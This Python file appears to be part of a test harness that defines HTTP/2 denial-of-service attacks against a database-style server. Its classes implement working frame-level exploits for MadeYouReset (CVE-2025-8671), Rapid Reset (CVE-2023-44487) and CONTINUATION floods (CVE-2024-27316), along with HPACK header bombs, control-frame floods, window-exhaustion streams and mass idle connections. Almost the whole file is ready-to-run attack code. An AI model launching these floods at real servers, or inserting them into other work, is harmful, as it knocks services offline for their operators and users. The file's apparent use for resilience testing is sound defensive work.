"""Attacks in frames of HTTP/2."""

import itertools

from attacks import frames
from attacks.traffic import ARRIVED, FOREVER, Attack

# What streams are opened with: calls that wait for more, of each of the server's two ways.
LISTEN = frames.call_block("Listen")
RUN_QUERY = frames.call_block("RunQuery")
BEGIN = frames.call_block("BeginTransaction")
POST = frames.block("POST", "/v1/projects/p/databases/(default)/documents:runQuery")
METRICS = frames.block("GET", "/metrics")
LARGEST_MESSAGE = 16 << 20


def stream_numbers():
    return itertools.count(1, 2)


class MadeYouReset(Attack):
    """Streams that the server itself has to reset: an overflowing or empty WINDOW_UPDATE, DATA after
    the end, a stream that depends on itself (CVE-2025-8671)."""

    def script(self, number):
        yield frames.opening()
        blunders = [
            lambda stream: frames.window_update(stream, frames.MOST),
            lambda stream: frames.window_update(stream, 0),
            lambda stream: frames.data(stream, b"", is_last=True) + frames.data(stream, b"late"),
            lambda stream: frames.frame(frames.PRIORITY, stream=stream, payload=stream.to_bytes(4, "big") + b"\x10"),
        ]
        blunder, block = blunders[number % 4], (POST, LISTEN, RUN_QUERY)[number % 3]
        streams = stream_numbers()
        while True:
            batch = itertools.islice(streams, 100)
            yield b"".join(frames.headers(stream, block) + blunder(stream) for stream in batch)


class RapidReset(Attack):
    """Streams that are opened and reset at once (CVE-2023-44487)."""

    def script(self, number):
        yield frames.opening()
        streams = stream_numbers()
        block = (POST, LISTEN, RUN_QUERY)[number % 3]
        while True:
            batch = itertools.islice(streams, 100)
            yield b"".join(frames.headers(stream, block) + frames.reset(stream) for stream in batch)


class UnfinishedStreams(Attack):
    """A thousand streams a connection, each with the beginning of a message of 16 MiB."""

    links = 100
    begun = b"\0" + LARGEST_MESSAGE.to_bytes(4, "big") + bytes(4_000)

    def script(self, number):
        windows = frames.Windows()
        yield frames.greeting()
        yield windows.feed((yield ARRIVED)) or 0
        block = (LISTEN, RUN_QUERY)[number % 2]
        for stream in itertools.islice(stream_numbers(), 1_000):
            yield frames.headers(stream, block)
            while not windows.take(stream, len(self.begun)):
                yield windows.feed((yield ARRIVED)) or 0
            yield frames.data(stream, self.begun)
        yield FOREVER


class UnfinishedMessages(Attack):
    """Messages of 16 MiB that lack their last byte, four a connection."""

    links = 100

    def script(self, number):
        windows = frames.Windows()
        yield frames.greeting()
        yield windows.feed((yield ARRIVED)) or 0
        block = (RUN_QUERY, LISTEN, BEGIN, POST)[number % 4]
        for stream in itertools.islice(stream_numbers(), 4):
            yield frames.headers(stream, block)
            yield frames.data(stream, b"\0" + LARGEST_MESSAGE.to_bytes(4, "big"))
            yield from self.fill(windows, stream)
        yield FOREVER

    def fill(self, windows, stream):
        left = LARGEST_MESSAGE - 1
        windows.take(stream, 5)
        while left:
            pieces = []
            while len(pieces) < 16 and (size := windows.take(stream, left)):
                pieces.append(frames.data(stream, bytes(size)))
                left -= size
            if pieces:
                yield b"".join(pieces)
            else:
                yield windows.feed((yield ARRIVED)) or 0


class HeaderBomb(Attack):
    """Streams kept open whose few bytes of headers refer to large ones that the connection sent before."""

    links = 64

    def script(self, number):
        yield frames.opening()
        block = (RUN_QUERY, POST)[number % 2]
        first = block + frames.literal("x-large", b"v" * 3_900, is_indexed=True)
        following = block + frames.indexed(62) * 7
        streams = itertools.islice(stream_numbers(), 1_000)
        yield frames.headers(next(streams), first)
        for stream in streams:
            yield frames.headers(stream, following)
        yield FOREVER


class ContinuationFlood(Attack):
    """Header blocks without an end: CONTINUATION frames, full or empty (CVE-2024-27316 and its kin)."""

    def script(self, number):
        yield frames.opening()
        block = frames.call_block("Listen")
        yield frames.frame(frames.HEADERS, stream=1, payload=block)
        field = frames.literal("x", b"v" * 8_000)
        piece = frames.frame(frames.CONTINUATION, stream=1, payload=b"" if number % 2 else field)
        pieces = piece * (1_000 if number % 2 else 4)
        while True:
            yield pieces


class ControlFrameFlood(Attack):
    """PING, SETTINGS, PRIORITY, empty DATA and WINDOW_UPDATE frames whose answers nobody reads."""

    reads = False

    def script(self, number):
        yield frames.opening() + frames.headers(1, LISTEN)
        piece = (
            frames.frame(frames.PING, payload=bytes(8)),
            frames.settings((frames.INITIAL_WINDOW_SIZE, 65_535)),
            frames.frame(frames.PRIORITY, stream=3, payload=bytes(4) + b"\x10"),
            frames.data(1, b""),
            frames.window_update(1, 1),
        )[number % 5]
        pieces = piece * 500
        while True:
            yield pieces


class UnreadAnswers(Attack):
    """Requests for the largest answer that an anonymous client gets, which nobody reads: by closed
    windows, and by a socket that is left alone."""

    links = 64
    reads = False

    def script(self, number):
        window = 0 if number % 2 else frames.MOST
        yield frames.opening((frames.INITIAL_WINDOW_SIZE, window))
        for stream in itertools.islice(stream_numbers(), 1_000):
            yield frames.headers(stream, METRICS, is_last=True)
        yield FOREVER


class IdleConnections(Attack):
    """Connections up to the limit, from many addresses, that say they speak HTTP/2 and then nothing."""

    links = 12_000
    opening_rate = 2_000
    addresses = 50
    seconds = 40

    def script(self, number):
        yield frames.opening()
        yield FOREVER


class IdleConnectionsOfOneAddress(IdleConnections):
    """The same from one address: others are still served."""

    addresses = 1


class IdleConnectionsBeyondDescriptors(IdleConnections):
    """1,100 idle connections under `ulimit -n 1024`, while so much is written that the store opens files."""

    links = 1_100
    seconds = 20
    descriptors = 1_024
    written_bytes = 4_000_000
